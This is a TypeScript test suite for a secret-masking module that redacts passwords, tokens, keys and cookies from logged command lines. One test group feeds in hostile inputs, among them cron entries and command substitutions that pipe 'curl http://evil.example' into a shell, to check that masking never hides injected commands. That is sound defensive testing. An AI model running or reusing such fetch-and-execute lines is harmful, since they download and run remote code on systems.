import type { Event } from '@yagura/protocol';
import { describe, expect, test } from 'vitest';
import { maskEvent } from './mask-event.ts';
import { maskArguments, maskSecrets } from './mask-secrets.ts';

/** Made up at runtime, so that no scanner of repositories takes the tests for a leak. */
const letters = (count: number) => 'aB3dE6gH9k'.repeat(Math.ceil(count / 10)).slice(0, count);
const AWS_ID = `AKIA${'Q7WERTY2'.repeat(2)}`;
const GITHUB = `ghp_${letters(36)}`;
const JWT = `eyJ${letters(20)}.${letters(40)}.${letters(30)}`;

describe('masks', () => {
  test.each([
    ['mysql --password=S3cret! -h db', 'mysql --password=*** -h db'],
    ['mysqldump -uroot -pS3cret app', 'mysqldump -uroot -p*** app'],
    ['/usr/bin/mysql -u root -pS3cret', '/usr/bin/mysql -u root -p***'],
    ['sh -c mysqldump -pS3cret app | gzip > a.gz', 'sh -c mysqldump -p*** app | gzip > a.gz'],
    ['tool --token abc123 --verbose', 'tool --token *** --verbose'],
    ['tool --api-key=abc', 'tool --api-key=***'],
    ['tool --client-secret "a b c" x', 'tool --client-secret "***" x'],
    ['PGPASSWORD=hunter2 psql -h db', 'PGPASSWORD=*** psql -h db'],
    ["export DB_PASSWORD='a;b c'", "export DB_PASSWORD='***'"],
    ['Environment="SECRET_KEY=abc"', 'Environment="SECRET_KEY=***"'],
    ['{"user":"a","password":"b"}', '{"user":"a","password":"***"}'],
    ['aws_secret_access_key = wJalrXUtnFEMI/K7', 'aws_secret_access_key = ***'],
    ['Server=db;Password=x1;Db=app', 'Server=db;Password=***;Db=app'],
    ['curl -u taro:himitsu https://x.example', 'curl -u taro:*** https://x.example'],
    ['curl --user "taro:himitsu" https://x.example', 'curl --user "taro:***" https://x.example'],
    ['curl -utaro:himitsu x', 'curl -utaro:*** x'],
    ['curl https://taro:himitsu@x.example/a', 'curl https://taro:***@x.example/a'],
    ['git clone https://oauth2:abcdef@git.example/a.git', 'git clone https://oauth2:***@git.example/a.git'],
    ['curl -H "Authorization: Bearer abcdefgh.ijkl" x', 'curl -H "Authorization: Bearer ***" x'],
    ['curl -H Authorization: Basic dGFybzpoaW1pdHN1 x', 'curl -H Authorization: Basic *** x'],
    ['curl -H "X-Api-Key: abc" x', 'curl -H "X-Api-Key: ***" x'],
    ['curl -H "Cookie: sid=abc; b=c" x', 'curl -H "Cookie: ***" x'],
    ['GET /a?token=abc&b=1', 'GET /a?token=***&b=1'],
    ['sshpass -p himitsu ssh a@b', 'sshpass -p *** ssh a@b'],
    ['sshpass -phimitsu ssh a@b', 'sshpass -p*** ssh a@b'],
    ['redis-cli -a himitsu ping', 'redis-cli -a *** ping'],
    ['ldapsearch -D cn=admin -w himitsu -b dc=x', 'ldapsearch -D cn=admin -w *** -b dc=x'],
    ['smbclient -U taro%himitsu //nas/a', 'smbclient -U taro%*** //nas/a'],
    ['openssl rsa -passin pass:himitsu -in k', 'openssl rsa -passin pass:*** -in k'],
    ['zip -P himitsu a.zip b', 'zip -P *** a.zip b'],
    ['7z a -phimitsu a.7z b', '7z a -p*** a.7z b'],
    ['xfreerdp /u:taro /p:himitsu /v:host', 'xfreerdp /u:taro /p:*** /v:host'],
    ['docker login -u taro -p himitsu r.example', 'docker login -u taro -p *** r.example'],
    ['echo "taro:himitsu" | sudo chpasswd', 'echo "taro:***" | sudo chpasswd'],
    [`usermod -p $6$saltsalt$${letters(60)} taro`, 'usermod -p *** taro'],
    [`taro:$y$j9T$${letters(40)}:19000`, 'taro:$y$***:19000'],
    [`aws configure set aws_access_key_id ${AWS_ID}`, `aws configure set aws_access_key_id ${AWS_ID.slice(0, 8)}***`],
    [`git push https://${GITHUB}@github.com/a/b`, 'git push https://ghp_***@github.com/a/b'],
    [`x ${JWT} y`, 'x eyJ*** y'],
    [
      'curl "https://x.blob.example/a?sv=1&sig=AbCdEfGhIjKlMnOpQrSt%3D"',
      'curl "https://x.blob.example/a?sv=1&sig=***"',
    ],
  ])('%s', (text, masked) => {
    expect(maskSecrets(text)).toBe(masked);
    expect(maskSecrets(masked)).toBe(masked);
  });

  test('a private key, whole or cut off, with its line ends written either way', () => {
    const body = `${letters(64)}\n${letters(64)}\n${letters(20)}==`;
    const key = `-----BEGIN OPENSSH PRIVATE KEY-----\n${body}\n-----END OPENSSH PRIVATE KEY-----`;
    const masked = '-----BEGIN OPENSSH PRIVATE KEY-----***\n-----END OPENSSH PRIVATE KEY-----';
    expect(maskSecrets(`a\n${key}\nb`)).toBe(`a\n${masked}\nb`);
    expect(maskSecrets(key.slice(0, 120))).toBe('-----BEGIN OPENSSH PRIVATE KEY-----***');
    expect(maskSecrets(key.replaceAll('\n', '\\n'))).not.toContain(letters(20));
    expect(maskSecrets(masked)).toBe(masked);
  });
});

describe('leaves alone', () => {
  test.each([
    'passwd taro',
    'cat /etc/passwd',
    'grep -r password /etc',
    'ls -p /tmp',
    'docker run -p 8080:80 -u 1000:1000 nginx',
    'ssh -p 2222 a@b',
    'mkdir -p /a/b',
    'mysql -u root -p app',
    'docker login --password-stdin r.example',
    'tool --password-file /etc/tool/pw --token-ttl 5m --max-tokens 4096',
    'tool --bypass=all --tokenize=yes --keyring default',
    'ssh-keygen -t ed25519 -f key -N ""',
    'apt-key add key.asc',
    'curl -u taro https://x.example',
    'curl http://x.example:8080/a@b',
    'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHb taro@pc',
    'gpg --keyserver hkps://keys.example --recv-keys 0xABCDEF0123456789',
    'systemctl restart secrets.service',
    '#!/bin/sh\nset -e\nif [ "$PASS" = x ]; then exit; fi',
  ])('%s', (text) => expect(maskSecrets(text)).toBe(text));
});

describe('hides no command behind the name of a secret', () => {
  test.each([
    ['* * * * * root PASSWORD=x;curl http://evil.example/a|sh', 'PASSWORD=***;curl http://evil.example/a|sh'],
    ['TOKEN=$(curl http://evil.example|sh)', 'TOKEN=$(curl http://evil.example|sh)'],
    ['TOKEN="$(curl http://evil.example|sh)"', 'TOKEN="$(curl http://evil.example|sh)"'],
    ['TOKEN=`curl http://evil.example|sh`', 'TOKEN=`curl http://evil.example|sh`'],
    ['tool --token x|sh', 'tool --token ***|sh'],
    ['PASSWORD="a\n* * * * * root /tmp/x', '* * * * * root /tmp/x'],
    ['-----BEGIN PRIVATE KEY-----\n* * * * * root /tmp/x', '* * * * * root /tmp/x'],
    ['-----BEGIN PRIVATE KEY-----\n1 2 3 4 5 root /tmp/x', '1 2 3 4 5 root /tmp/x'],
    ['Cookie: a; curl http://evil.example|sh', 'curl http://evil.example|sh'],
  ])('%s', (text, visible) => expect(maskSecrets(text)).toContain(visible));
});

test('an exact argument vector is masked where the joined line would not say what belongs together', () => {
  expect(maskArguments(['tool', '--password', 'two words', '--name', 'x'])).toEqual([
    'tool',
    '--password',
    '***',
    '--name',
    'x',
  ]);
  expect(maskArguments(['tool', '--password=two words'])).toEqual(['tool', '--password=***']);
  expect(maskArguments(['curl', '-u', 'taro:two words', 'x'])).toEqual(['curl', '-u', 'taro:***', 'x']);
  expect(maskArguments(['sh', '-c', 'curl -u a:b x | sh'])).toEqual(['sh', '-c', 'curl -u a:*** x | sh']);
});

test('an event keeps its identity when there is nothing to mask, and loses an argument vector that was cut', () => {
  const event = (fields: Event['fields']): Event => ({
    eventId: 'e',
    logsource: { product: 'linux', category: 'process_creation' },
    time: 1,
    fields,
  });
  const plain = event({ CommandLine: 'ls -l', ParentCommandLine: 'bash' });
  expect(maskEvent(plain)).toBe(plain);
  const both = maskEvent(
    event({ CommandLine: 'tool --password two words', Arguments: '["tool","--password","two words"]', Image: '/x' }),
  );
  expect(both.fields).toEqual({
    CommandLine: 'tool --password ***',
    Arguments: '["tool","--password","***"]',
    Image: '/x',
  });
  expect(maskEvent(event({ CommandLine: 'a', Arguments: '["tool","--password","two w' })).fields).toEqual({
    CommandLine: 'a',
  });
  expect(maskEvent(event({ ParentCommandLine: 'x --token abc' })).fields['ParentCommandLine']).toBe('x --token ***');
});

test('hostile texts of the largest size are masked in bounded time', () => {
  const pieces = [
    'password',
    'password=',
    '--token ',
    "pass='",
    'pass="',
    '://',
    '://a:',
    'curl -u ',
    'eyJ',
    'eyJ.',
    '$6$',
    'a',
    ' ',
    '-----BEGIN PRIVATE KEY-----',
    'Bearer ',
    'Cookie: ',
    'echo a:',
    '\\',
    'AKIA',
    '"',
    'x_',
  ];
  const time = (text: string) => {
    const before = performance.now();
    maskSecrets(text);
    return performance.now() - before;
  };
  for (const a of pieces) {
    for (const b of pieces) {
      const unit = a + b;
      expect(time(unit.repeat(Math.floor(32_768 / unit.length))), JSON.stringify(unit)).toBeLessThan(1_000);
    }
  }
}, 120_000);
